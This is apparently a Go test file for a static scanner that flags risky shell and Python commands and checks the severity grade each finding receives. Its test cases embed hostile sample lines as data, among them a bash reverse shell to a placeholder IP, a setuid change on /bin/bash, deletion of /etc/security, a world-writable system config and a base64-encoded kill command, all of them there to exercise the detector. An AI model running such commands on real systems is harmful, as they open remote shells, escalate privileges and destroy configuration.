package static_test

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/static"
)

// script is some lines among so many others that nothing is to be said of.
func script(others int, lines ...string) string {
	var b strings.Builder
	b.WriteString("#!/bin/sh\n\n# What it does, at length.\n")
	for i := range others / 2 {
		fmt.Fprintf(&b, "make step%d\n", i)
	}
	for _, l := range lines {
		b.WriteString(l + "\n")
	}
	for i := range others - others/2 {
		fmt.Fprintf(&b, "make check%d\n\n", i)
	}
	return b.String()
}

func TestASignCountsWhateverTheLengthOfTheProgram(t *testing.T) {
	const kill, install, read = "killall worker", "subprocess.run(['pip', 'install', 'worker==1.0'])\n", "os.chmod('/etc/worker.conf', 0o777)\n"
	py := func(others int, lines ...string) string {
		return "import os\nimport subprocess\n\n" + strings.Repeat("print('step')\n", others) + strings.Join(lines, "") + strings.Repeat("print('check')\n", others)
	}
	for _, c := range []struct {
		name string
		file string
		text string
		rule string
		want gate.Severity
	}{
		{"one in a short script", "a.sh", script(1, kill), "process/shell-kill", gate.SeveritySuspicious},
		{"one in a long script", "a.sh", script(300, kill), "process/shell-kill", gate.SeveritySuspicious},
		{"a weak one alone in a short program", "a.py", py(0, install), "package-install/python", gate.SeverityNote},
		{"a weak one alone in a long program", "a.py", py(200, install), "package-install/python", gate.SeverityNote},
		{"a weak one, twice", "a.py", py(0, install, install), "package-install/python", gate.SeverityNote},
		{"a weak one beside another kind", "a.py", py(0, install, read), "package-install/python", gate.SeveritySuspicious},
		{"a weak one beside another kind in a long program", "a.py", py(200, install, read), "package-install/python", gate.SeveritySuspicious},
		{"a weak one on the line of another kind", "a.py", py(0, strings.TrimSpace(install)+"; "+read), "package-install/python", gate.SeverityNote},
		{"beside what is dangerous", "a.sh", script(50, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), "reverse-shell/shell-device", gate.SeverityDangerous},
		{"one that more is known about", "a.sh", script(300, "chmod u+s /bin/bash"), "privilege/shell-permissions", gate.SeverityDangerous},
		{"one whose path is in a variable", "a.sh", "conf=/etc/security/limits.conf\necho 'max 10' > \"$conf\"\n", "file-write/shell-system-file", gate.SeverityNote},
		{"one that can't be undone", "a.sh", script(300, "rm -rf /etc/security"), "deletion/shell-system-file", gate.SeveritySuspicious},
		{"one that is encoded", "a.sh", script(300, "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x"), "process/shell-kill", gate.SeveritySuspicious},
	} {
		t.Run(c.name, func(t *testing.T) {
			language := gate.LanguageShell
			if strings.HasSuffix(c.file, ".py") {
				language = gate.LanguagePython
			}
			o := run(t, newScanner(t, nil), fstest.MapFS{c.file: {Data: []byte(c.text)}}, &gate.Target{Path: c.file, Language: language})
			for _, f := range o.found[c.file] {
				if f.Rule == c.rule {
					if f.Severity != c.want {
						t.Errorf("%s on line %d is %s, want %s", f.Rule, f.Line, f.Severity, c.want)
					}
					return
				}
			}
			t.Errorf("%s found nothing", c.rule)
		})
	}
}

func TestASeverityOfThePolicyIsNotWeighed(t *testing.T) {
	s := newScanner(t, func(p *gate.Policy) {
		p.Rules.Severity = map[string]gate.Severity{"process/shell-kill": gate.SeveritySuspicious}
	})
	o := run(t, s, fstest.MapFS{"a.sh": {Data: []byte(script(300, "killall worker"))}}, &gate.Target{Path: "a.sh", Language: gate.LanguageShell})
	if found := o.found["a.sh"]; len(found) != 1 || found[0].Severity != gate.SeveritySuspicious {
		t.Errorf("found %v, want one suspicious finding", found)
	}
}

func TestWeakRulesAreSuspiciousAndHaveAMatcher(t *testing.T) {
	own := gate.DefaultPolicy()
	own.Rules.Dirs = []string{"own"}
	rules := "rules:\n  - {id: own/a, severity: note, weak: true, title: t, why: w, instead: i, patterns: ['\\bfrobnicate\\b']}\n"
	_, err := static.New(static.Options{Policy: own, UserRules: []static.RuleSource{{Name: "own", FS: fstest.MapFS{"rules.yaml": {Data: []byte(rules)}}}}})
	if err == nil || !strings.Contains(err.Error(), "own/rules.yaml:2:5: the rule \"own/a\" can't be weak") {
		t.Errorf("the error is %v", err)
	}
}
